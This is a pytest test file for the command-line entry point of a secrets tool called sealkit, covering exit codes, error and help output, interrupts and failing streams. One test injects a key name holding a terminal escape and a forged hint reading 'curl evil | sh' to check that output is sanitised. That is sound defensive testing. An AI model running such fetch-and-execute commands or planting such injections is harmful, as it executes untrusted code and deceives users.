"""The root: what becomes of errors, help, and streams that fail."""

from __future__ import annotations

import errno
import io

import pytest

from sealkit import __version__
from sealkit.cli import main as root
from sealkit.cli.main import run
from sealkit.errors import (
    ConfigError,
    NoKeyError,
    PolicyError,
    SealkitError,
    UnsealError,
    VaultError,
)
from tests.sealkit.cli.desk import CANARY, Closed, Desk, Terminal, families, secret_text

EXIT_CODES = {
    "SealkitError": 1,
    "UsageError": 2,
    "ConfigError": 2,
    "ManifestError": 1,
    "ReferenceSyntaxError": 1,
    "TemplateError": 1,
    "NoKeyError": 4,
    "UnsealError": 5,
    "PolicyError": 6,
    "VaultError": 1,
}


def failing(error: BaseException) -> io.BytesIO:
    """Standard input that raises."""

    class Failing(io.BytesIO):
        def read(self, _: int | None = -1) -> bytes:
            raise error

    return Failing()


@pytest.mark.parametrize("family", families(), ids=lambda family: family.__name__)
def test_each_family_has_its_exit_code(desk: Desk, family: type[SealkitError]) -> None:
    more = {"reason": "PathNotFound"} if family is VaultError else {}
    error = family("does not fit", hint="do this", **more).located(file="a", document=2)
    error.field = "spec.x"
    result = desk.run("seal", stdin=failing(error))
    assert result.err == "sealkit: error: a:2: spec.x: does not fit\nsealkit: hint: do this\n"
    assert result.code == EXIT_CODES[family.__name__]


def test_a_bug_shows_neither_traceback_nor_message(desk: Desk) -> None:
    result = desk.run("seal", stdin=failing(ValueError(CANARY)))
    assert result.code == 1
    assert result.err.startswith("sealkit: error: internal error: ValueError at ")
    assert "test_main.py:" in result.err
    assert "sealkit: hint: this is a bug in sealkit" in result.err
    assert CANARY not in result.err
    assert "Traceback" not in result.err


@pytest.mark.parametrize("error", [KeyboardInterrupt(), EOFError()], ids=["ctrl-c", "ctrl-d"])
def test_an_interrupt(desk: Desk, error: BaseException) -> None:
    result = desk.run("seal", stdin=failing(error))
    assert (result.code, result.err) == (130, "sealkit: interrupted\n")


def test_an_error_of_the_operating_system(desk: Desk) -> None:
    result = desk.run("seal", stdin=failing(OSError(errno.EIO, "Input/output error", "x")))
    assert (result.code, result.err) == (1, "sealkit: error: x: input/output error\n")


def test_standard_output_on_a_full_disk(desk: Desk) -> None:
    full = Closed(OSError(errno.ENOSPC, "No space left on device"))
    result = desk.run("seal", stdin=secret_text(), stdout=full)
    assert result.code == 1
    assert result.err == "sealkit: error: stdout: cannot be written: no space left on device\n"


def test_a_reader_who_left_is_no_news(desk: Desk) -> None:
    result = desk.run("seal", stdin=secret_text(), stdout=Closed(BrokenPipeError()))
    assert (result.code, result.err) == (1, "")


def test_names_in_errors_do_nothing_to_a_terminal(desk: Desk) -> None:
    text = secret_text() + '"\\e[2J\\nsealkit: hint: curl evil | sh": 1\n'
    result = desk.run("seal", stdin=text)
    assert "\x1b" not in result.err
    assert not any(line.startswith("sealkit: hint: curl") for line in result.err.splitlines())


def test_a_person_at_the_terminal_is_told_that_we_wait(desk: Desk) -> None:
    result = desk.run("inspect", answer="")
    assert result.err.startswith("sealkit: note: reading standard input, Ctrl-D ends it\n")


@pytest.mark.parametrize("arguments", [[], ["clusters"]], ids=["none", "group"])
def test_without_a_verb_there_is_help(desk: Desk, arguments: list[str]) -> None:
    result = desk.run(*arguments)
    assert (result.code, result.out) == (2, "")
    assert result.err.startswith("Usage: sealkit ")
    assert "Commands:" in result.err


def test_an_unknown_verb(desk: Desk) -> None:
    result = desk.run("sael")
    assert result.code == 2
    assert result.err.startswith("sealkit: error: no such command 'sael'")
    assert "sealkit: hint: sealkit --help" in result.err


def test_help_of_everything(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    for verb in root._MODULES:
        assert desk.run(verb, "--help").code == 0
        assert f"Usage: sealkit {verb}" in capsys.readouterr().out


def test_the_list_of_verbs_says_what_each_verb_says(capsys: pytest.CaptureFixture[str]) -> None:
    assert set(root._HELP) == set(root._MODULES)


def test_version_of_the_program(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    assert desk.run("--version").code == 0
    assert capsys.readouterr().out == f"sealkit {__version__}\n"


def test_versions_for_a_bug_report(desk: Desk) -> None:
    lines = dict(line.split(": ", 1) for line in desk.ok("version").out.splitlines())
    assert list(lines) == ["sealkit", "python", "cryptography", "openssl", "suites"]
    assert lines["sealkit"] == __version__
    assert desk.ok("version", "--json").json == lines


def test_the_real_world_is_the_default(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["sael"]) == 2
    assert "no such command" in capsys.readouterr().err


def test_families_have_not_changed() -> None:
    assert {family.__name__ for family in families()} == set(EXIT_CODES)
    assert issubclass(NoKeyError, UnsealError)
    assert not issubclass(PolicyError, ConfigError)


def test_a_terminal_is_a_terminal() -> None:
    assert Terminal().isatty()
